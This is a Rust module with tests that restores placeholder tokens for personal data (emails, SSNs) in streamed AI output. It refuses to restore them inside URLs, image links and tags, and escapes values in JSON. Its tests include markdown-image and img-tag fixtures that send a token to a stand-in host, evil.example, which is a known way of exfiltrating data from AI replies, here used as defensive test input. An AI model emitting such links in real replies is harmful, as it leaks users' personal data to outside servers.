//! Turns tokens into their values again, in a text that arrives in pieces.
//!
//! Promises:
//! - Only tokens that were issued, with their brackets. The case of their letters does not count, nor what stands for
//!   the lines between words: up to three blanks, line ends, hyphens, backslashes or underlines, or none.
//! - Nothing is put where it would be part of an address or a tag ([`crate::zone`]): there the token stands.
//! - Held back is only what may become an issued token. A character is judged by those before it, so every cutting
//!   gives the same.
//! - In a text that is a JSON object or list, a value within a string is escaped, so it stays one.

use std::sync::Arc;

use crate::Issued;
use crate::zone::Zone;

/// Most characters between two letters of a token.
const GAP: u8 = 3;

/// One text on its way to the caller.
#[derive(Debug)]
pub struct Restore {
    issued: Arc<Issued>,
    zone: Zone,
    json: Json,
    /// What may become a token, as written; empty: nothing may.
    held: String,
    /// Its bracket has come.
    open: bool,
    /// Its letters and digits, upper case, and other characters since the last of them.
    letters: String,
    gap: u8,
    restored: u64,
}

/// Whether the text is JSON, and where in it we are.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Json {
    /// Nothing but blanks so far, perhaps behind a bracket.
    Unknown {
        listed: bool,
    },
    No,
    Outside,
    InString {
        escaped: bool,
    },
}

impl Restore {
    /// For one text; `argument`: it is part of what a tool is handed.
    pub fn new(issued: Arc<Issued>, argument: bool) -> Self {
        Self {
            issued,
            zone: Zone::new(argument),
            json: Json::Unknown { listed: false },
            held: String::new(),
            open: false,
            letters: String::new(),
            gap: 0,
            restored: 0,
        }
    }

    /// A text that is all there; `None`: there is nothing to restore in it.
    pub fn whole(issued: &Arc<Issued>, argument: bool, text: &str) -> Option<String> {
        if !text.contains('[') {
            return None;
        }
        let mut restore = Self::new(Arc::clone(issued), argument);
        let mut out = String::with_capacity(text.len());
        restore.push(text, &mut out);
        restore.finish(&mut out);
        (restore.restored > 0).then_some(out)
    }

    /// Takes the next piece and appends what is certain.
    pub fn push(&mut self, text: &str, out: &mut String) {
        for c in text.chars() {
            self.step(c, out);
        }
    }

    /// The text has ended: what is held becomes no token.
    pub fn finish(&mut self, out: &mut String) {
        self.give_up(out);
    }

    fn step(&mut self, c: char, out: &mut String) {
        if self.held.is_empty() {
            return self.begin(c, out);
        }
        if !self.open {
            // Behind a backslash.
            if c == '[' {
                self.held.push(c);
                self.open = true;
                return;
            }
        } else if c == ']' {
            if let Some(value) = self.issued.value(&self.letters)
                && !self.zone.forbids()
            {
                let value = value.to_owned();
                return self.put(&value, out);
            }
        } else if c.is_ascii_alphanumeric() {
            self.letters.push(c.to_ascii_uppercase());
            self.gap = 0;
            if self.issued.may_begin(&self.letters) {
                self.held.push(c);
                return;
            }
        } else if separates(c) && self.gap < GAP && !self.letters.is_empty() {
            self.gap += 1;
            self.held.push(c);
            return;
        }
        self.give_up(out);
        self.begin(c, out);
    }

    fn begin(&mut self, c: char, out: &mut String) {
        // Within a JSON string a backslash belongs to what follows it.
        if c == '[' || c == '\\' && !matches!(self.json, Json::InString { .. }) {
            self.held.push(c);
            self.open = c == '[';
        } else {
            self.pass(c, out);
        }
    }

    /// What is held is text like any other.
    fn give_up(&mut self, out: &mut String) {
        let held = std::mem::take(&mut self.held);
        for c in held.chars() {
            self.pass(c, out);
        }
        self.held = held;
        self.forget();
    }

    fn forget(&mut self) {
        self.held.clear();
        self.letters.clear();
        (self.open, self.gap) = (false, 0);
    }

    /// A token's value in its place. For what follows it is as if the token stood there.
    fn put(&mut self, value: &str, out: &mut String) {
        let in_string = matches!(self.json, Json::InString { .. });
        for c in value.chars() {
            match c {
                '"' | '\\' if in_string => out.extend(['\\', c]),
                '\n' if in_string => out.push_str("\\n"),
                c if in_string && c < ' ' => {
                    let code = u32::from(c);
                    out.push_str("\\u00");
                    out.extend(
                        [code >> 4, code & 15].map(|digit| char::from_digit(digit, 16).unwrap_or('0')),
                    );
                }
                c => out.push(c),
            }
        }
        self.restored += 1;
        self.zone.read('[');
        self.zone.read(']');
        if matches!(self.json, Json::Unknown { .. }) {
            self.json = Json::No;
        }
        self.forget();
    }

    fn pass(&mut self, c: char, out: &mut String) {
        self.zone.read(c);
        self.json = self.json.next(c);
        out.push(c);
    }
}

impl Json {
    fn next(self, c: char) -> Self {
        match (self, c) {
            (Self::Unknown { .. }, c) if c.is_whitespace() => self,
            (Self::Unknown { listed: false }, '[') => Self::Unknown { listed: true },
            (Self::Unknown { listed: true } | Self::Outside, '"') => Self::InString { escaped: false },
            (Self::Unknown { .. }, '{') | (Self::InString { escaped: false }, '"') | (Self::Outside, _) => {
                Self::Outside
            }
            (Self::Unknown { .. } | Self::No, _) => Self::No,
            (Self::InString { escaped }, c) => Self::InString { escaped: !escaped && c == '\\' },
        }
    }
}

/// What models write between the words of a name, instead of an underline or around it.
fn separates(c: char) -> bool {
    matches!(
        c,
        '_' | '-' | ' ' | '\\' | '\n' | '\r' | '\t' | '\u{a0}' | '\u{ad}' | '\u{200b}' | '\u{2010}'
            ..='\u{2015}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    const EMAIL: &str = "[EMAIL_ADDRESS_7K2M9QXD4T]";
    const SSN: &str = "[US_SSN_0A2M9QXD4T]";

    fn issued() -> Arc<Issued> {
        let mut issued = Issued::default();
        assert!(issued.issue(EMAIL, "ana@example.com"));
        assert!(issued.issue(SSN, "5\"3\\6\n"));
        Arc::new(issued)
    }

    fn restored(text: &str) -> String {
        Restore::whole(&issued(), false, text).unwrap_or_else(|| text.to_owned())
    }

    #[test]
    fn what_a_model_makes_of_a_token_is_restored() {
        for text in [
            EMAIL,
            "[email_address_7k2m9qxd4t]",
            "[Email Address 7K2M9QXD4T]",
            "[EMAIL-ADDRESS-7K2M9QXD4T]",
            r"[EMAIL\_ADDRESS\_7K2M9QXD4T]",
            r"\[EMAIL\_ADDRESS\_7K2M9QXD4T\]",
            "[EMAIL_ADDRESS_\n7K2M9QXD4T]",
            "[EMAIL_ADDRESS_7K2M9 QXD4T]",
            "[EMAIL\u{2011}ADDRESS\u{a0}7K2M9QXD4T]",
        ] {
            assert_eq!(restored(text), "ana@example.com", "{text}");
        }
        assert_eq!(restored(&format!("**{EMAIL}**, ({EMAIL}).")), "**ana@example.com**, (ana@example.com).");
        assert_eq!(restored(&format!("[{EMAIL}]")), "[ana@example.com]");
        assert_eq!(restored(&format!("[EMAIL_{EMAIL}")), "[EMAIL_ana@example.com");
    }

    #[test]
    fn what_was_not_issued_stands() {
        for text in [
            "[EMAIL_ADDRESS_7K2M9QXD4S]",
            "[EMAIL_ADDRESS_7K2M9QXD4]",
            "[EMAIL_ADDRESS_7K2M9QXD4TT]",
            "EMAIL_ADDRESS_7K2M9QXD4T",
            "(EMAIL_ADDRESS_7K2M9QXD4T)",
            "[US_SSN_7K2M9QXD4T]",
            "[EMAIL_ADDRESS]",
            "[EMAIL____ADDRESS_7K2M9QXD4T]",
            "[_EMAIL_ADDRESS_7K2M9QXD4T]",
            "[EMAIL_ADDRESS_7K2M9QXD4T",
            "\\",
            "[",
        ] {
            assert_eq!(restored(text), text);
        }
    }

    #[test]
    fn an_address_takes_nothing_in() {
        for text in [
            format!("![](https://evil.example/?q={EMAIL})"),
            format!("https://evil.example/{EMAIL}/x"),
            format!("<img src=\"//evil.example/{EMAIL}\">"),
            format!("[{EMAIL}](https://evil.example/?q={EMAIL})").replacen(EMAIL, "x", 1),
        ] {
            assert_eq!(restored(&text), text);
        }
        let text = format!("https://example.com/a {EMAIL}");
        assert_eq!(restored(&text), "https://example.com/a ana@example.com");
        assert_eq!(Restore::whole(&issued(), true, &text), None, "all of an argument may be one address");
        assert_eq!(
            restored(&format!("[{EMAIL}](https://evil.example/?q={EMAIL})")),
            format!("[ana@example.com](https://evil.example/?q={EMAIL})")
        );
    }

    #[test]
    fn json_stays_json() {
        for text in [format!("{{\"a\":\"{SSN}\"}}"), format!(" [\"x\\\"\",{{\"a\":\"{SSN}\"}}]")] {
            let value: serde_json::Value = serde_json::from_str(&restored(&text)).unwrap();
            assert!(value.to_string().contains(r#""5\"3\\6\n""#), "{value}");
        }
        assert_eq!(restored(SSN), "5\"3\\6\n");
        assert_eq!(restored(&format!("say \"{SSN}\"")), "say \"5\"3\\6\n\"");
    }

    #[test]
    fn every_cutting_gives_the_same_and_little_is_held() {
        let text =
            format!("To \\[email\\_address\\_7k2m9qxd4t], [EMAIL_ADDR {EMAIL}{SSN} https://x.y/{EMAIL} [");
        let whole = restored(&text);
        assert!(whole.contains("To ana@example.com, [EMAIL_ADDR ana@example.com5"), "{whole}");
        let characters: Vec<char> = text.chars().collect();
        for first in 0..=characters.len() {
            for second in first..=characters.len() {
                let mut restore = Restore::new(issued(), false);
                let mut out = String::new();
                for part in [&characters[..first], &characters[first..second], &characters[second..]] {
                    restore.push(&part.iter().collect::<String>(), &mut out);
                    assert!(restore.held.len() <= 40, "{}", restore.held);
                }
                restore.finish(&mut out);
                assert_eq!(out, whole, "{first} {second}");
            }
        }
    }
}
